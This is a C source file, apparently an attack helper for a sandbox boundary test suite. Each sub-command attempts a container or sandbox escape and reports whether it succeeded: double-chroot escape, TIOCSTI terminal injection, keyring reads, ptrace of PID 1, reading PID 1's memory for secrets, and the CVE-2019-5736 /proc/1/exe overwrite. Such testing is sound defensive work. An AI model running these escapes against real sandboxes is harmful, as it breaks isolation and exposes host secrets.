/* Attack helper for spec/boundary_spec.lua: one static program, one
 * sub-command per attack that needs more than a shell. It runs inside the
 * sandbox (bound read-only) or on the host as a launcher (keyhost). Every
 * attack prints ESCAPED ... when it got through and BLOCKED ... when the
 * kernel said no; the spec decides. Nothing here writes a host file but the
 * ones the spec made for it (exe-overwrite checks a random token first). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define KEYCTL_JOIN_SESSION_KEYRING 1
#define KEYCTL_READ 11
#define KEYCTL_SEARCH 10
#define KEY_SPEC_SESSION_KEYRING -3

static void out(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void out(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	fflush(stdout);
}

/* openw PATH...: open for writing, close without writing a byte. */
static int cmd_openw(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_WRONLY | O_NOCTTY | O_CLOEXEC);
		if (fd >= 0) {
			close(fd);
			out("ESCAPED openw %s", argv[i]);
		} else {
			out("BLOCKED openw %s: %s", argv[i], strerror(errno));
		}
	}
	return 0;
}

/* readsome PATH...: how many bytes a read gets (masked: error or 0). */
static int cmd_readsome(int argc, char **argv)
{
	char buf[4096];
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_RDONLY | O_NOCTTY | O_CLOEXEC | O_NONBLOCK);
		if (fd < 0) {
			out("BLOCKED read %s: %s", argv[i], strerror(errno));
			continue;
		}
		ssize_t n = read(fd, buf, sizeof buf);
		int e = errno;
		close(fd);
		if (n > 0)
			out("ESCAPED read %s: %zd bytes", argv[i], n);
		else
			out("BLOCKED read %s: %s", argv[i], n == 0 ? "empty" : strerror(e));
	}
	return 0;
}

/* tiocsti STRING: push STRING into the terminal on fd 0. */
static int cmd_tiocsti(int argc, char **argv)
{
	if (argc < 1)
		return 2;
	int pushed = 0;
	for (const char *p = argv[0]; *p; p++) {
		if (ioctl(0, TIOCSTI, p) < 0) {
			out("BLOCKED tiocsti: %s", strerror(errno));
			return 0;
		}
		pushed++;
	}
	out("ESCAPED tiocsti: pushed %d bytes", pushed);
	return 0;
}

/* chroot-escape MARKER: the double chroot, then print the root's dev:ino
 * and read MARKER (a host path); the spec compares both with the host's. */
static int cmd_chroot_escape(int argc, char **argv)
{
	char buf[256];
	if (argc < 1)
		return 2;
	if (chdir("/tmp") < 0) {
		out("BLOCKED chroot-escape: chdir /tmp: %s", strerror(errno));
		return 0;
	}
	mkdir("isolatk-x", 0700);
	if (chroot("isolatk-x") < 0) {
		out("BLOCKED chroot-escape: chroot: %s", strerror(errno));
		return 0;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		out("BLOCKED chroot-escape: second chroot: %s", strerror(errno));
		return 0;
	}
	struct stat st;
	if (stat("/", &st) == 0)
		out("ATTACK chroot-escape ROOT=%lu:%lu", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		out("ATTACK chroot-escape: open %s: %s", argv[0], strerror(errno));
		return 0;
	}
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	buf[n > 0 ? n : 0] = 0;
	out("ESCAPED chroot-escape MARKER:%s", buf);
	return 0;
}

/* keyhost DESC PAYLOAD CMD...: a fresh session keyring for this process with
 * one user key, then exec CMD; "@KEYID@" in CMD becomes the key's id. */
static int cmd_keyhost(int argc, char **argv)
{
	char id[32];
	if (argc < 3)
		return 2;
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0) {
		perror("keyctl join");
		return 1;
	}
	long k = syscall(SYS_add_key, "user", argv[0], argv[1], strlen(argv[1]), KEY_SPEC_SESSION_KEYRING);
	if (k < 0) {
		perror("add_key");
		return 1;
	}
	snprintf(id, sizeof id, "%ld", k);
	for (int i = 2; i < argc; i++)
		if (strcmp(argv[i], "@KEYID@") == 0)
			argv[i] = id;
	execvp(argv[2], argv + 2);
	perror("exec");
	return 127;
}

/* keyread DESC ID: find the host's key by search and by id, read it. */
static int cmd_keyread(int argc, char **argv)
{
	char buf[256];
	if (argc < 2)
		return 2;
	long ids[2] = { syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0),
			strtol(argv[1], NULL, 10) };
	for (int i = 0; i < 2; i++) {
		if (ids[i] <= 0) {
			out("BLOCKED keyread search: %s", strerror(errno));
			continue;
		}
		long n = syscall(SYS_keyctl, KEYCTL_READ, ids[i], buf, sizeof buf - 1);
		if (n < 0) {
			out("BLOCKED keyread %ld: %s", ids[i], strerror(errno));
			continue;
		}
		buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0;
		out("ESCAPED keyread KEY:%s", buf);
	}
	return 0;
}

/* ptrace-init TOKEN: stop PID 1 under ptrace and keep it stopped; either
 * way stay alive 30 s (argv carries TOKEN so the host finds this process
 * and sees whether the sandbox dies with its host). */
static int cmd_ptrace_init(int argc, char **argv)
{
	(void)argc, (void)argv;
	if (ptrace(PTRACE_SEIZE, 1, 0, 0) < 0)
		out("BLOCKED ptrace seize 1: %s", strerror(errno));
	else if (ptrace(PTRACE_INTERRUPT, 1, 0, 0) < 0)
		out("BLOCKED ptrace interrupt 1: %s", strerror(errno));
	else
		out("ESCAPED ptrace: init stopped");
	sleep(30);
	return 0;
}

/* fakestatus: write a 0 wait status into every pipe PID 1 holds, then die
 * by SIGKILL (an honest report says signal 9). */
static int cmd_fakestatus(int argc, char **argv)
{
	char path[300], link[64];
	(void)argc, (void)argv;
	DIR *d = opendir("/proc/1/fd");
	if (!d) {
		out("BLOCKED fakestatus: /proc/1/fd: %s", strerror(errno));
	} else {
		struct dirent *e;
		while ((e = readdir(d))) {
			/* 0-2 are the sandbox's own stdio: not the status channel */
			if (e->d_name[0] == '.' || atoi(e->d_name) <= 2)
				continue;
			snprintf(path, sizeof path, "/proc/1/fd/%s", e->d_name);
			ssize_t n = readlink(path, link, sizeof link - 1);
			if (n < 0) {
				out("BLOCKED fakestatus readlink %s: %s", path, strerror(errno));
				continue;
			}
			link[n] = 0;
			if (strncmp(link, "pipe:", 5) != 0)
				continue;
			int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
			if (fd < 0) {
				out("BLOCKED fakestatus open %s: %s", path, strerror(errno));
				continue;
			}
			int zero = 0;
			if (write(fd, &zero, sizeof zero) == (ssize_t)sizeof zero)
				out("ESCAPED fakestatus: wrote into %s", path);
			close(fd);
		}
		closedir(d);
	}
	out("ATTACK fakestatus: done, dying by SIGKILL");
	fflush(stdout);
	kill(getpid(), SIGKILL);
	return 0;
}

/* Write "PWNED" over TOKEN in the tail of the file open at `path`; only a
 * file whose tail holds TOKEN (the spec's launcher copy) is ever written.
 * Returns 1 written, 0 not ours, -errno when the open for writing failed. */
static int overwrite_if_ours(const char *path, const char *token)
{
	char tail[128];
	struct stat st;
	size_t tl = strlen(token);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	if (fstat(fd, &st) < 0 || st.st_size < (off_t)sizeof tail) {
		close(fd);
		return 0;
	}
	off_t at = st.st_size - (off_t)sizeof tail;
	ssize_t n = pread(fd, tail, sizeof tail, at);
	close(fd);
	char *hit = n > 0 ? memmem(tail, (size_t)n, token, tl) : NULL;
	if (!hit)
		return 0;
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	ssize_t w = pwrite(fd, "PWNED", 5, at + (hit - tail));
	close(fd);
	return w == 5 ? 1 : -EIO;
}

/* exe-overwrite TOKEN SECONDS [orphan]: for up to SECONDS, open /proc/1/exe
 * for writing (CVE-2019-5736). With "orphan" (no pid namespace: the init is
 * the parent), keep an O_PATH fd of the parent's exe, SIGKILL the parent so
 * nothing runs the file any more, then reopen the fd for writing. */
static int cmd_exe_overwrite(int argc, char **argv)
{
	char path[64];
	if (argc < 2)
		return 2;
	int ms = atoi(argv[1]) * 1000;
	int r = 0;
	snprintf(path, sizeof path, "/proc/1/exe");
	if (argc > 2 && strcmp(argv[2], "orphan") == 0) {
		char exe[64];
		pid_t pp = getppid();
		snprintf(exe, sizeof exe, "/proc/%d/exe", (int)pp);
		int pfd = open(exe, O_PATH | O_CLOEXEC);
		if (pfd < 0) {
			out("BLOCKED exe-overwrite: open %s: %s", exe, strerror(errno));
			return 0;
		}
		snprintf(path, sizeof path, "/proc/self/fd/%d", pfd);
		kill(pp, SIGKILL);
	}
	for (int t = 0; t < ms; t += 50) {
		r = overwrite_if_ours(path, argv[0]);
		if (r == 1) {
			out("ESCAPED exe-overwrite: wrote into the launcher");
			return 0;
		}
		if (r == 0) {
			out("BLOCKED exe-overwrite: %s is not the launcher copy", path);
			return 0;
		}
		if (r != -ETXTBSY)
			break;
		struct timespec ts = { 0, 50 * 1000 * 1000 };
		nanosleep(&ts, NULL);
	}
	out("BLOCKED exe-overwrite: %s", strerror(-r));
	return 0;
}

/* memscan: look for "ISOLSECRET:" + 32 hex digits in PID 1's memory. */
static int cmd_memscan(int argc, char **argv)
{
	static char buf[1 << 20];
	char line[512];
	const char *pre = "ISOLSECRET" ":";
	size_t pl = strlen(pre);
	int found = 0;
	(void)argc, (void)argv;
	FILE *maps = fopen("/proc/1/maps", "r");
	int mem = open("/proc/1/mem", O_RDONLY | O_CLOEXEC);
	if (!maps || mem < 0) {
		out("BLOCKED memscan: %s", strerror(errno));
		return 0;
	}
	while (fgets(line, sizeof line, maps)) {
		unsigned long lo, hi;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r')
			continue;
		for (unsigned long a = lo; a < hi; a += sizeof buf - 64) {
			size_t want = hi - a < sizeof buf ? hi - a : sizeof buf;
			ssize_t n = pread(mem, buf, want, (off_t)a);
			if (n <= 0)
				break;
			for (char *p = buf; (p = memmem(p, (size_t)(buf + n - p), pre, pl)); p++) {
				if (p + pl + 32 > buf + n)
					break;
				int ok = 1;
				for (size_t i = 0; i < 32; i++)
					ok &= !!strchr("0123456789abcdef", p[pl + i]) && p[pl + i];
				if (ok && found < 4) {
					out("ESCAPED memscan SECRET:%.32s", p + pl);
					found++;
				}
			}
		}
	}
	close(mem);
	fclose(maps);
	if (!found)
		out("BLOCKED memscan: no secret in /proc/1/mem");
	return 0;
}

/* subreaper SECS CMD...: run CMD as a child subreaper, so that whatever
 * CMD's sandbox leaves behind is re-parented here (not to the machine's
 * PID 1); SECS after CMD ends, print SURVIVOR <pid> for each process still
 * here, SIGKILL it (they are the spec's own) and reap. */
static int cmd_subreaper(int argc, char **argv)
{
	char path[64], buf[4096];
	int st;
	if (argc < 2)
		return 2;
	if (prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0) < 0) {
		perror("PR_SET_CHILD_SUBREAPER");
		return 1;
	}
	fflush(stdout);
	pid_t c = fork();
	if (c < 0)
		return 1;
	if (c == 0) {
		execvp(argv[1], argv + 1);
		_exit(127);
	}
	waitpid(c, &st, 0);
	sleep((unsigned)atoi(argv[0]));
	while (waitpid(-1, &st, WNOHANG) > 0)
		;
	snprintf(path, sizeof path, "/proc/self/task/%d/children", (int)getpid());
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
	if (fd >= 0)
		close(fd);
	buf[n > 0 ? n : 0] = 0;
	for (char *p = strtok(buf, " \n"); p; p = strtok(NULL, " \n")) {
		out("SURVIVOR %s", p);
		kill((pid_t)atoi(p), SIGKILL);
	}
	for (int i = 0; i < 100 && waitpid(-1, &st, 0) > 0; i++)
		;
	out("SUBREAPER-DONE");
	return 0;
}

/* kill PID: SIGKILL a host process by pid. */
static int cmd_kill(int argc, char **argv)
{
	if (argc < 1)
		return 2;
	if (kill((pid_t)atoi(argv[0]), SIGKILL) < 0)
		out("BLOCKED kill %s: %s", argv[0], strerror(errno));
	else
		out("ESCAPED kill %s", argv[0]);
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*fn)(int, char **);
	} cmds[] = {
		{ "openw", cmd_openw },
		{ "readsome", cmd_readsome },
		{ "tiocsti", cmd_tiocsti },
		{ "chroot-escape", cmd_chroot_escape },
		{ "keyhost", cmd_keyhost },
		{ "keyread", cmd_keyread },
		{ "ptrace-init", cmd_ptrace_init },
		{ "fakestatus", cmd_fakestatus },
		{ "exe-overwrite", cmd_exe_overwrite },
		{ "memscan", cmd_memscan },
		{ "kill", cmd_kill },
		{ "subreaper", cmd_subreaper },
	};
	if (argc < 2)
		return 2;
	for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++)
		if (strcmp(argv[1], cmds[i].name) == 0)
			return cmds[i].fn(argc - 2, argv + 2);
	fprintf(stderr, "attack: unknown sub-command %s\n", argv[1]);
	return 2;
}
